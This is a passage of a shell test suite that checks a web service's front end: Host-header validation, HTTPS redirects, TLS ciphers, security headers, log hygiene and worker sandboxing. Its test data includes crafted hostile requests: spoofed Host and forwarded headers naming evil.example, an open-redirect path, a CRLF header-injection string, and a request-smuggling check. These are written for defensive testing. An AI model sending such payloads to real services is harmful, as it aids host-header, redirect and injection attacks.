200 | GET /health HTTP/1.1~Host: LOCALHOST~~
421 | GET /health HTTP/1.1~Host: evil.example~~
421 | GET /health HTTP/1.1~Host: evil.example:{PORT}~~
421 | GET /nothing HTTP/1.1~Host: localhost.evil.example~~
421 | GET /health HTTP/1.1~Host: evillocalhost~~
421 | GET /health HTTP/1.1~Host: xlocalhost:80~~
200 | GET /health HTTP/1.1~Host: localhost.~~
400 | GET /health HTTP/1.1~Host: localhost:80.evil.example~~
400 | GET /health HTTP/1.1~Host: localhost@evil.example~~
400 | GET /health HTTP/1.1~Host: evil.example#localhost~~
400 | GET /health HTTP/1.1~Host: localhost evil.example~~
400 | GET /health HTTP/1.1~Host: localhost,evil.example~~
400 | GET /health HTTP/1.1~Host: localhost/evil~~
400 | GET /health HTTP/1.1~Host: localhost:x~~
400 | GET /health HTTP/1.1~Host: localhost:-1~~
400 | GET /health HTTP/1.1~Host: "~~
400 | GET /health HTTP/1.1~Host: [::1~~
400 | GET /health HTTP/1.1~Host:~~
400 | GET /health HTTP/1.1~X: y~~
421/apache-proxy:400 | GET /health HTTP/1.0~~
400 end | GET /health HTTP/1.1~Host: localhost~Host: evil.example~~
400 end | GET /health HTTP/1.1~Host: evil.example~Host: localhost~~
421/lighttpd:400 | GET http://evil.example/health HTTP/1.1~Host: localhost~~
421/lighttpd:400 | GET https://evil.example/health HTTP/1.1~Host: localhost~~
400 | GET http://localhost@evil.example/health HTTP/1.1~Host: localhost~~
200/lighttpd:400/apache-proxy:421 | GET http://localhost/health HTTP/1.1~Host: evil.example~~
200 | GET /health HTTP/1.1~{H}~X-Forwarded-Host: evil.example~X-Host: evil.example~Forwarded: host=evil.example~~ | !evil
END
}

# bats test_tags=tls
@test "http redirects to https: the same path and query, this host, and no other" {
  tls_only
  wire <<'END'
308 plain | GET /health HTTP/1.1~Host: localhost~~ | ^Location: https://localhost:{PORT}/health$ | !^Strict-Transport-Security
308 plain | GET /a/b?c=d&e=%20f HTTP/1.1~Host: localhost:80~~ | ^Location: https://localhost:{PORT}/a/b\?c=d&e=%20f$
308 plain | POST /predict HTTP/1.1~Host: localhost~Content-Length: 2~~{} | ^Location: https://localhost:{PORT}/predict$
308 plain | GET / HTTP/1.1~Host: 127.0.0.1~~ | ^Location: https://127\.0\.0\.1:{PORT}/$
308 plain | GET /x/%2e%2e/%41//y?z HTTP/1.1~Host: localhost~~ | ^Location: https://localhost:{PORT}/x/%2e%2e/%41//y\?z$
308 plain | GET //evil.example/ HTTP/1.1~Host: localhost~~ | ^Location: https://localhost:{PORT}//evil.example/$
308 plain | GET /%0d%0aSet-Cookie:%20a=b HTTP/1.1~Host: localhost~~ | !^Set-Cookie
308 plain | GET /x HTTP/1.1~Host: localhost~X-Forwarded-Host: evil.example~X-Forwarded-Proto: https~~ | ^Location: https://localhost:{PORT}/x$
308 plain | GET /x HTTP/1.1~Host: localhost~X-API-Key: fg_none~~ | !fg_none
421 plain | GET /health HTTP/1.1~Host: evil.example~~ | !^Location
421 plain | GET //localhost/ HTTP/1.1~Host: evil.example~~ | !^Location
421/lighttpd:400 plain | GET http://evil.example/ HTTP/1.1~Host: localhost~~ | !^Location
421 plain | GET /health HTTP/1.0~~ | !^Location
400 plain | GET /health HTTP/1.1~~ | !^Location
400 plain | GET @evil.example/ HTTP/1.1~Host: localhost~~ | !^Location
END
}

# ---- TLS ----

# What openssl says when it wants just this; and a server that talks it is no proof.
handshake() {
  openssl s_client -connect "localhost:${URL##*:}" -servername localhost "$@" </dev/null 2>&1 || :
}

# bats test_tags=tls
@test "TLS 1.2 and 1.3 are spoken, with a few ciphers, and nothing older or weaker" {
  tls_only
  local cipher version answer
  for version in -tls1_2 -tls1_3; do [[ "$(handshake $version)" == *'Cipher is '[A-Z]*'Verif'* ]]; done
  [[ "$(handshake -tls1_2 -cipher ECDHE-RSA-AES128-GCM-SHA256:ECDHE-ECDSA-AES128-GCM-SHA256)" == *'Cipher is ECDHE-'*AES128-GCM-SHA256* ]]
  for version in -tls1 -tls1_1; do
    answer=$(handshake $version -cipher ALL:@SECLEVEL=0)
    [[ "$answer" == *'alert protocol version'* ]] || { echo "$version: $answer" >&2 && false; }
  done
  # Each apart: without forward secrecy, without authenticated encryption, without encryption, with an old hash.
  for cipher in AES128-GCM-SHA256 AES128-SHA ECDHE-RSA-AES128-SHA:ECDHE-ECDSA-AES128-SHA \
    ECDHE-RSA-AES256-SHA384:ECDHE-ECDSA-AES256-SHA384 DHE-RSA-AES128-GCM-SHA256 NULL-SHA256 aNULL CAMELLIA128-SHA; do
    answer=$(handshake -tls1_2 -cipher "$cipher:@SECLEVEL=0")
    [[ "$answer" == *'alert handshake failure'* ]] || { echo "$cipher: $answer" >&2 && false; }
  done
  [[ "$(handshake -tls1_2)" == *'Compression: NONE'* ]]
}

# bats test_tags=tls
@test "HTTP/1.1 alone is agreed upon, and http to the port of TLS gets nothing of the service" {
  tls_only
  [[ "$(handshake -alpn h2,http/1.1)" != *'ALPN protocol: h2'* ]]
  answer=$(curl -s --max-time 5 "http://localhost:${URL##*:}/health" || :)
  [[ "$answer" != *healthy* && "$answer" != *nginx/* && "$answer" != *Apache/* ]]
}

# ---- headers: of all that was answered so far ----

@test "there were answers of each status to look at" {
  local status statuses
  statuses=$(jq .status "$T/seen" | sort -u)
  for status in 200 204 400 401 403 404 405 413 415 421 422 429 503 ${TLS:+308}; do
    grep -qx "$status" <<<"$statuses" || { echo "no $status in" "$statuses" >&2 && false; }
  done
}

@test "X-Content-Type-Options: nosniff" { each_has x-content-type-options nosniff; }
@test "X-Frame-Options: DENY" { each_has x-frame-options DENY; }
@test "X-XSS-Protection: 0" { each_has x-xss-protection 0; }
@test "Permissions-Policy shuts geolocation, microphone and camera" {
  each_has permissions-policy 'geolocation=(), microphone=(), camera=()'
}
@test "Cross-Origin-Opener-Policy: same-origin" { each_has cross-origin-opener-policy same-origin; }
@test "Referrer-Policy: strict-origin-when-cross-origin" {
  each_has referrer-policy strict-origin-when-cross-origin
}
@test "Content-Security-Policy: nothing at all" {
  each_has content-security-policy "default-src 'none'; form-action 'none'; base-uri 'none'; frame-ancestors 'none'"
}

@test "Strict-Transport-Security on TLS, and on TLS alone" {
  jq -e -n '[inputs | select([.headers[] | select(.[0] == "strict-transport-security") | .[1]] !=
    if .tls then ["max-age=2592000; includeSubDomains"] else [] end)] | length == 0 or (.[:3] | tostring | error)' "$T/seen"
}

@test "Vary: Origin is on every answer, once, and never *" {
  jq -e -n '[inputs | select([.headers[] | select(.[0] == "vary") | .[1] | split(", *"; null)[] | ascii_downcase] as $vary |
    ([$vary[] | select(. == "origin")] | length) != 1 or ($vary | index("*")))] | length == 0 or (.[:3] | tostring | error)' "$T/seen"
}

@test "all security headers together, and no header twice" {
  jq -e -n '[inputs | select([.headers[][0]] as $names | ["x-content-type-options", "x-frame-options", "x-xss-protection",
    "permissions-policy", "cross-origin-opener-policy", "referrer-policy", "content-security-policy"] - $names != [] or
    ($names - ["vary", "connection"] | length) != ($names - ["vary", "connection"] | unique | length))] |
    length == 0 or (.[:3] | tostring | error)' "$T/seen"
}

@test "no answer tells what serves it, or where it lies" {
  jq -e -n '[inputs | select(any(.headers[]; .[0] == "x-powered-by" or .[0] == "via" or (.[0] == "server" and
    (.[1] | test("[/0-9]|Debian|OpenSSL"))) or (.[1] | test("/tmp/|/var/|forestgate-test"))))] | length == 0 or (.[:3] | tostring | error)' "$T/seen"
}

@test "pages have the policies of their own, once, and the rest of the headers" {
  ask /setup
  [ "$status" = 200 ]
  [ "$(grep -ci '^content-security-policy:' "$header")" = 1 ]
  [ "$(grep -ci '^referrer-policy:' "$header")" = 1 ]
  [ "$(header_of referrer-policy)" = no-referrer ]
  [[ "$(header_of content-security-policy)" == *"script-src 'self'"* ]]
  [[ "$(header_of content-security-policy)" != *unsafe* ]]
  [ "$(header_of x-frame-options)" = DENY ]
  [ "$(grep -ci '^x-content-type-options:' "$header")" = 1 ]
  ask -H 'Accept: text/html' /
  [ "$status" = 200 ]
  [ "$(grep -ci '^content-security-policy:' "$header")" = 1 ]
  [[ "$(header_of content-security-policy)" != *unsafe* ]]
}

# ---- logs: after all the tries above ----

@test "the access log has one line for each request that a worker answered, and nothing else" {
  local log=$T/home/logs/access.log bad
  bad=$(LC_ALL=C grep -vE '^20[0-9]{2}-[0-9]{2}-[0-9]{2}T[0-9:.]{12}Z (info|warning) [0-9a-f.:-]+ [^ ]+ [^ ]+ [0-9]{3} [0-9]+\.[0-9]+ [A-Za-z0-9._-]+ [^ ]+$' "$log" || :)
  [ -z "$bad" ] || { echo "$bad" >&2 && false; }
  [ "$(LC_ALL=C grep -c '[^ -~]' "$log")" = 0 ]
  jq -r '.headers[] | select(.[0] == "x-request-id") | .[1]' "$T/seen" | sort >"$BATS_TEST_TMPDIR/answered"
  awk '{print $8}' "$log" | sort >"$BATS_TEST_TMPDIR/logged"
  [ "$(wc -l <"$BATS_TEST_TMPDIR/answered")" -gt 50 ]
  bad=$(comm -23 "$BATS_TEST_TMPDIR/answered" "$BATS_TEST_TMPDIR/logged")
  [ -z "$bad" ] || { echo "answered and not logged: $bad" >&2 && false; }
}

@test "what was smuggled was asked of nobody" {
  local path
  for path in "$T/home/logs/access.log" "$T"/front/*.log; do
    if grep -E '/smuggled.* 200 |GET /smuggled' "$path"; then echo "in $path" >&2 && false; fi
  done
}

@test "no log has a key, a query, or a byte that a terminal would obey" {
  local path
  for path in "$T"/home/logs/*.log "$T"/front/*.log "$T/out"; do
    [ -e "$path" ] || continue
    if grep -F -e "${KEY:16:20}" -e "${FEW:16:20}" -e api_key= -e '?x=' "$path"; then echo "in $path" >&2 && false; fi
    if LC_ALL=C grep -aP '[\x00-\x08\x0b-\x1f\x7f-\xff]' "$path"; then echo "in $path" >&2 && false; fi
  done
}

# ---- workers: as this front, or who starts them for it, has them ----

@test "each worker is shut in: no new privileges, a filter, its limits, not dumpable" {
  if sanitized; then skip 'a build with a sanitizer has no sandbox'; fi
  workers_are_shut_in
}

# ---- time ----

@test "who does not go on with a header or a body is cut off, with a refusal or without a word" {
  wait_for 600 test -s "$T/slow.status"
  [ "$(cat "$T/slow.status")" = 0 ] || { cat "$T/slow" >&2 && false; }
}

# ---- the last: there are no workers after it ----

@test "without workers there is a 503 of the same form, with the same headers" {
  : >"$T/seen"
  case $MODE in
  apache)
    echo 'no program' >"$T/bin/new"
    chmod 755 "$T/bin/new"
    mv "$T/bin/new" "$T/bin/forestgate.fcgi"
    # shellcheck disable=SC2046 # a list of process ids
    kill -KILL $(worker_pids)
    ;;
  *)
    kill -TERM "$SPAWN_PID"
    no_workers() { [ -z "$(worker_pids)" ]; }
    wait_for 50 no_workers
    ;;
  esac
  # lighttpd has no header for one status alone, and where it cannot start one mod_fcgid says 500.
  local retry='| ^Retry-After: [0-9]+$' status=503
  case $MODE in
  lighttpd-socket) retry='' ;;
  apache) retry='' status=500/503 ;;
  esac
  wire <<END
$status | GET /health HTTP/1.1~{H}~~ $retry
$status | POST /predict HTTP/1.1~{H}~X-API-Key: {KEY}~{J}~Content-Length: 30~~{"features":[5.1,3.5,1.4,0.2]}
$status origin=https://app.example.org | GET /health HTTP/1.1~{H}~Origin: https://app.example.org~~
204 origin=https://app.example.org | OPTIONS /predict HTTP/1.1~{H}~Origin: https://app.example.org~Access-Control-Request-Method: POST~~
END
  each_has x-content-type-options nosniff
  each_has content-security-policy "default-src 'none'; form-action 'none'; base-uri 'none'; frame-ancestors 'none'"
}
